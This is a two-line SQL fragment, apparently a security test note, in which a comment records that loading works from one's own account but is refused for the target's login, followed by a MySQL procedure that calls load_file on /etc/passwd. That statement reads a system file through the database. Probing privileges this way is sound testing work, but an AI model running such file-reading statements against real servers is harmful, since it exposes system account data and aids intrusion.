-- own account: loads; login of the target: refused
CREATE PROCEDURE p() SELECT load_file('/etc/passwd');
